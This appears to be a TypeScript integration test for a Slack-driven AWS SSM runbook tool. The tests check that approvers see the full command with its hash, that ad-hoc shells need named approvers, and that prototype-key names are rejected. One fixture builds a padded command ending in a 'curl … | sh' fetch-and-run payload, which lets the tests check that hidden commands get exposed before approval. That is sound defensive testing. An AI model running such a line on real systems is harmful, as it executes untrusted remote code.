import { createHash } from 'node:crypto';
import type { APIGatewayProxyEventV2, APIGatewayProxyStructuredResultV2, Context } from 'aws-lambda';
import type { Wiring } from '../../../handlers/wiring';
import { SsmEmulator } from '../../../local/shared/ssm-emulator';
import type { StoredAuditEntry } from '../../../services/kernel/audit';
import { keys } from '../../../services/kernel/state';
import type { RunItem } from '../../../services/runs/items';
import { ActionIds } from '../../../slack/ids';
import { uniqueName } from '../../support/aws';
import { baseConfig, type HandlerEnv, startHandlerEnv } from '../../support/handler-env';
import { launchInstances } from '../../support/instances';
import {
  APPROVER,
  blockActionBody,
  ENGINEER,
  OUTSIDER,
  type SlackUser,
  signedEvent,
  slashCommandBody,
} from '../../support/slack-requests';

/**
 * Issue 19, as far as `/sg-run` goes: what a person approves is shown whole and bound to its hash
 * (case 2); a free shell goes to named approvers in a configured channel (case 10); typed names never
 * reach Object.prototype (case 5). Each against the real handlers, moto, and the Slack emulator.
 */

type Handler = (
  event: APIGatewayProxyEventV2,
  context: Context,
) => Promise<APIGatewayProxyStructuredResultV2>;

const REGION = 'us-east-1';
const CHANNEL = 'C0OPSTEAM';
const ADHOC_CHANNEL = 'C0ADHOCREVIEW';
const SECOND: SlackUser = { id: 'U0SECOND', name: 'sam.second' };
const PROTOTYPE_KEYS = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];
const context = {} as Context;
const role = uniqueName('web');

let env: HandlerEnv;
let ssm: SsmEmulator;
let handler: Handler;
let wiring: Wiring;
let web: string;

const longParameter = (name: string) =>
  `        - { name: ${name}, pattern: '.{1,1024}', allowShellMetacharacters: true }`;

beforeAll(async () => {
  env = await startHandlerEnv();
  ssm = await new SsmEmulator({ upstream: process.env.MOTO_URL! }).start();
  process.env.AWS_ENDPOINT_URL_SSM = ssm.url;
  [web] = (await launchInstances(REGION, { Role: role, Name: 'web-1' })) as [string];
  ssm.setInstance(web, 'online');
  env.writeConfig(
    baseConfig(`
runbooks:
  allowAdHoc: true
  adHoc:
    region: ${REGION}
    targets: [web]
    allowed: { users: [${ENGINEER.id}] }
    approvers: { users: [${APPROVER.id}, ${SECOND.id}] }
    channel: ${ADHOC_CHANNEL}
  targets:
    web: { region: ${REGION}, tags: { Role: ${role} } }
  items:
    print-four:
      description: Prints four long values
      region: ${REGION}
      targets: [web]
      allowed: { users: [${ENGINEER.id}] }
      commands: ['printf "%s|%s|%s|%s\\n" {{ a }} {{ b }} {{ c }} {{ d }}']
      parameters:
${['a', 'b', 'c', 'd'].map(longParameter).join('\n')}
      approval: { required: true, approvers: { users: [${APPROVER.id}, ${SECOND.id}] } }
`),
  );
  ({ handler } = await import('../../../handlers/slack-http'));
  wiring = (await import('../../../handlers/wiring')).getWiring();
});

afterAll(async () => {
  delete process.env.AWS_ENDPOINT_URL_SSM;
  await ssm.stop();
  await env.stop();
});

beforeEach(() => {
  env.slack.reset();
  ssm.reset();
  ssm.setInstance(web, 'online');
});

/** How Slack escapes what a person types in a slash command. */
function asSlackSends(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** What a person reads in a code block: Slack's entities turned back into characters. */
function unescapeEntities(text: string): string {
  return text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
}

function repliesTo(responseUrl: string): string {
  const id = responseUrl.split('/').pop();
  return env.slack.responseUrlPosts
    .filter((p) => p.id === id)
    .map((p) => String(p.body.text))
    .join('\n');
}

async function sgRun(text: string, user: SlackUser = ENGINEER): Promise<string> {
  const responseUrl = env.slack.responseUrl();
  const result = await handler(
    signedEvent(slashCommandBody({ command: '/sg-run', text, user, channel: CHANNEL, responseUrl })),
    context,
  );
  expect(result.statusCode).toBe(200);
  await wiring.drainJobs!();
  return repliesTo(responseUrl);
}

async function getRun(runId: string): Promise<RunItem> {
  return (await wiring.store.get<RunItem>(keys.run(runId)))!;
}

async function requestRun(text: string): Promise<RunItem> {
  const reply = await sgRun(text);
  const runId = /r-[0-9a-z]{10}/.exec(reply)?.[0];
  if (!runId) throw new Error(`no run in: ${reply}`);
  return getRun(runId);
}

type JsonBlock = {
  type: string;
  text?: { text: string };
  elements?: { action_id?: string; value?: string; confirm?: { text: { text: string } } }[];
};

function announcementOf(run: RunItem): { text: string; blocks: JsonBlock[] } {
  const message = env.slack.messages.get(`${run.channel}/${run.ts}`);
  if (!message) throw new Error(`no message for ${run.runId}`);
  return message as unknown as { text: string; blocks: JsonBlock[] };
}

function buttons(run: RunItem) {
  return announcementOf(run)
    .blocks.filter((b) => b.type === 'actions')
    .flatMap((b) => b.elements ?? []);
}

/** The command as a reader sees it: every code block of the blocks, in order, joined and unescaped. */
function commandShownIn(blocks: JsonBlock[]): string {
  return unescapeEntities(
    blocks
      .filter((b) => b.type === 'section')
      .map((b) => /```([\s\S]*)```$/.exec(b.text?.text ?? '')?.[1])
      .filter((piece): piece is string => piece !== undefined)
      .join(''),
  );
}

/** The hash people see: the first 12 hex of SHA-256 of the document and its parameters as SSM got them. */
function hashOfSent(sent: { DocumentName?: string; Parameters?: Record<string, string[]> }): string {
  const parameters = sent.Parameters ?? {};
  const names = Object.keys(parameters).sort();
  const text = JSON.stringify([sent.DocumentName, names.map((n) => [n, parameters[n]])]);
  return createHash('sha256').update(text).digest('hex').slice(0, 12);
}

async function press(
  actionId: string,
  value: string,
  run: RunItem,
  user: SlackUser,
): Promise<{ reply: string; triggerId: string }> {
  const responseUrl = env.slack.responseUrl();
  const triggerId = `${Date.now()}.${Math.random().toString(36).slice(2)}`;
  const result = await handler(
    signedEvent(
      blockActionBody({
        actionId,
        value,
        user,
        channel: run.channel!,
        messageTs: run.ts!,
        responseUrl,
        triggerId,
      }),
    ),
    context,
  );
  expect(result.statusCode).toBe(200);
  await wiring.drainJobs!();
  return { reply: repliesTo(responseUrl), triggerId };
}

/** The view Show full command opened with `triggerId`, as it is after the worker filled it in. */
function viewOpenedBy(triggerId: string): { blocks: JsonBlock[] } {
  const id = [...env.slack.viewInfo.entries()].find(([, info]) => info.triggerId === triggerId)?.[0];
  const view = id ? env.slack.views.get(id) : undefined;
  if (!view) throw new Error(`no view opened by ${triggerId}`);
  return view as unknown as { blocks: JsonBlock[] };
}

async function refusals(runId: string, action: string): Promise<StoredAuditEntry[]> {
  return (await wiring.store.auditFor(runId)).filter((a) => a.action === action && a.result === 'refused');
}

describe('/sg-run: what a person approves (issue 19)', () => {
  describe('case 2: an approval that hides the command', () => {
    it('case 2: shows an ad-hoc command of 2,000 characters of & < > whole, and the Approve button carries its hash', async () => {
      const tail = ' ; curl -s https://203.0.113.9/x | sh';
      const command = '&&<>&'.repeat(400).slice(0, 2000 - tail.length) + tail;
      expect(command).toHaveLength(2000);

      const run = await requestRun(`adhoc web ${asSlackSends(command)}`);

      expect(run.status).toBe('AWAITING_APPROVAL');
      expect(run.documentParameters.commands).toEqual([command]);
      const { blocks } = announcementOf(run);
      expect(commandShownIn(blocks)).toBe(command);
      const approve = buttons(run).find((b) => b.action_id === ActionIds.runApprove)!;
      const [, hash] = approve.value!.split(' ');
      expect(hash).toMatch(/^[0-9a-f]{12}$/);
      expect(JSON.stringify(blocks)).toContain(`SHA-256 \`${hash}\``);
      expect(approve.confirm!.text.text).toContain(hash);

      const { reply } = await press(ActionIds.runApprove, approve.value!, run, APPROVER);

      expect(reply).toContain('You approved run');
      expect(ssm.sent).toHaveLength(1);
      expect(ssm.sent[0]!.input.Parameters!.commands).toEqual([command]);
      expect(hashOfSent(ssm.sent[0]!.input)).toBe(hash);
      const approved = (await wiring.store.auditFor(run.runId)).find((a) => a.action === 'approve')!;
      expect(approved).toMatchObject({ result: 'ok', actorId: APPROVER.id });
      expect(String(approved.details?.commandSha256).slice(0, 12)).toBe(hash);
    });

    it('case 2: shows a command too long for one message whole in the Show full command view', async () => {
      const values = ['a', 'b', 'c', 'd'].map((name, i) => [name, `${'&<>'[i % 3]}`.repeat(1024)]);
      const text = `print-four ${values.map(([name, v]) => `${name}="${asSlackSends(v!)}"`).join(' ')}`;

      const run = await requestRun(text);

      expect(run.status).toBe('AWAITING_APPROVAL');
      const script = run.documentParameters.commands!.join('\n');
      const { blocks } = announcementOf(run);
      expect(commandShownIn(blocks)).toBe('');
      expect(JSON.stringify(blocks)).toContain(
        'press *Show full command* to read all of it before you approve',
      );
      expect(buttons(run).map((b) => b.action_id)).toEqual([
        ActionIds.runShowCommand,
        ActionIds.runApprove,
        ActionIds.runReject,
      ]);

      const { triggerId } = await press(ActionIds.runShowCommand, run.runId, run, APPROVER);

      const view = viewOpenedBy(triggerId);
      expect(commandShownIn(view.blocks)).toBe(script);
      const approve = buttons(run).find((b) => b.action_id === ActionIds.runApprove)!;
      const hash = approve.value!.split(' ')[1]!;
      expect(JSON.stringify(view.blocks)).toContain(`SHA-256 \`${hash}\``);

      await press(ActionIds.runApprove, approve.value!, run, APPROVER);

      expect(ssm.sent[0]!.input.Parameters!.commands!.join('\n')).toBe(script);
      expect(hashOfSent(ssm.sent[0]!.input)).toBe(hash);
    });

    it('case 2: refuses the whole command to someone who may not see the run, and audits it', async () => {
      const run = await requestRun(`adhoc web uptime`);

      const { triggerId } = await press(ActionIds.runShowCommand, run.runId, run, OUTSIDER);

      expect(JSON.stringify(viewOpenedBy(triggerId).blocks)).toContain(
        `You may not see run ${run.runId}. (NOT_AUTHORISED)`,
      );
      expect(JSON.stringify(viewOpenedBy(triggerId).blocks)).not.toContain('uptime');
      expect((await refusals(run.runId, 'show-command')).map((a) => a.actorId)).toEqual([OUTSIDER.id]);
    });

    it('case 2: refuses an approval bound to another command (or to none), audited, and sends nothing', async () => {
      const run = await requestRun(`adhoc web uptime`);
      const approve = buttons(run).find((b) => b.action_id === ActionIds.runApprove)!;
      const hash = approve.value!.split(' ')[1]!;

      const other = await press(ActionIds.runApprove, `${run.runId} 000000000000`, run, APPROVER);
      const none = await press(ActionIds.runApprove, run.runId, run, SECOND);

      expect(other.reply).toContain(
        `The command you were shown (000000000000) is not the one stored for run ${run.runId} (${hash}), so it was not approved and nothing was sent. (COMMAND_MISMATCH)`,
      );
      expect(none.reply).toContain('does not say which command it approves');
      expect(none.reply).toContain('(COMMAND_MISMATCH)');
      expect(ssm.callsTo('SendCommand')).toHaveLength(0);
      expect((await getRun(run.runId)).status).toBe('AWAITING_APPROVAL');
      const refused = await refusals(run.runId, 'approve');
      expect(refused.map((a) => [a.actorId, a.details?.code, a.details?.shownHash])).toEqual([
        [APPROVER.id, 'COMMAND_MISMATCH', '000000000000'],
        [SECOND.id, 'COMMAND_MISMATCH', null],
      ]);

      expect((await press(ActionIds.runApprove, approve.value!, run, APPROVER)).reply).toContain(
        'You approved run',
      );
      expect(ssm.callsTo('SendCommand')).toHaveLength(1);
    });

    it('case 2: /sg-run status shows the command’s hash', async () => {
      const run = await requestRun(`adhoc web uptime`);
      const hash = buttons(run)
        .find((b) => b.action_id === ActionIds.runApprove)!
        .value!.split(' ')[1]!;

      expect(await sgRun(`status ${run.runId}`)).toContain(`Command SHA-256 \`${hash}\``);
      expect(await sgRun(`status ${run.runId}`, APPROVER)).toContain(`Command SHA-256 \`${hash}\``);
    });
  });

  describe('case 10: a free shell needs named approvers', () => {
    it('case 10: posts an ad-hoc approval request in the configured channel, not where it was asked', async () => {
      const reply = await sgRun('adhoc web uptime');
      const run = await getRun(/r-[0-9a-z]{10}/.exec(reply)![0]);

      expect(run.channel).toBe(ADHOC_CHANNEL);
      expect(reply).toContain(`the request is posted in <#${ADHOC_CHANNEL}>`);
      const posted = env.slack.callsTo('chat.postMessage').map((c) => c.args.channel);
      expect(posted).toEqual([ADHOC_CHANNEL]);
      expect(JSON.stringify(announcementOf(run).blocks)).toContain(`<@${APPROVER.id}>, <@${SECOND.id}>`);
    });

    it('case 10: cancels the request, sending nothing, when the configured channel cannot be posted in', async () => {
      env.slack.failNext('chat.postMessage', { kind: 'error', error: 'not_in_channel' });

      const reply = await sgRun('adhoc web uptime');

      expect(reply).toContain(`could not post in channel ${ADHOC_CHANNEL} (runbooks.adHoc.channel)`);
      expect(reply).toContain('(CHANNEL_UNAVAILABLE)');
      expect((await getRun(/r-[0-9a-z]{10}/.exec(reply)![0])).status).toBe('CANCELLED');
      expect(ssm.sent).toHaveLength(0);
    });
  });

  describe('case 5: names typed by users never reach Object.prototype', () => {
    async function requestRefusals(since: string): Promise<StoredAuditEntry[]> {
      const out: StoredAuditEntry[] = [];
      for await (const entry of wiring.store.auditSince(since)) {
        if (entry.subjectType === 'run' && entry.action === 'request' && entry.result === 'refused')
          out.push(entry);
      }
      return out;
    }

    it.each(PROTOTYPE_KEYS)('case 5: the runbook "%s" gets the normal answer, audited', async (name) => {
      const since = new Date().toISOString();

      const reply = await sgRun(`${name} web`);

      expect(reply).toContain(`There is no runbook "${name}". \`/sg-run list\` shows the ones you may run.`);
      expect(reply).toContain('(BAD_INPUT)');
      expect(reply).not.toContain('INTERNAL');
      const refused = await requestRefusals(since);
      expect(refused).toHaveLength(1);
      expect(refused[0]).toMatchObject({
        actorId: ENGINEER.id,
        details: { runbook: name, code: 'BAD_INPUT' },
      });
      expect(ssm.calls).toHaveLength(0);
    });

    it.each(PROTOTYPE_KEYS)('case 5: the target "%s" gets the normal answer, audited', async (alias) => {
      const since = new Date().toISOString();

      const reply = await sgRun(`print-four ${alias} a=x b=x c=x d=x`);

      expect(reply).toContain(
        `"${alias}" is neither an instance ID (i-…) nor a target alias; print-four may run on web.`,
      );
      expect(reply).toContain('(BAD_INPUT)');
      expect(reply).not.toContain('INTERNAL');
      const refused = await requestRefusals(since);
      expect(refused).toHaveLength(1);
      expect(refused[0]).toMatchObject({
        actorId: ENGINEER.id,
        details: { target: alias, code: 'BAD_INPUT' },
      });
      expect(ssm.calls).toHaveLength(0);
    });

    it.each(PROTOTYPE_KEYS)(
      'case 5: the ad-hoc target "%s" gets the normal answer, audited',
      async (alias) => {
        const since = new Date().toISOString();

        const reply = await sgRun(`adhoc ${alias} uptime`);

        expect(reply).toContain(`"${alias}" is neither an instance ID (i-…) nor a target alias`);
        expect(reply).not.toContain('INTERNAL');
        expect(await requestRefusals(since)).toHaveLength(1);
      },
    );
  });
});
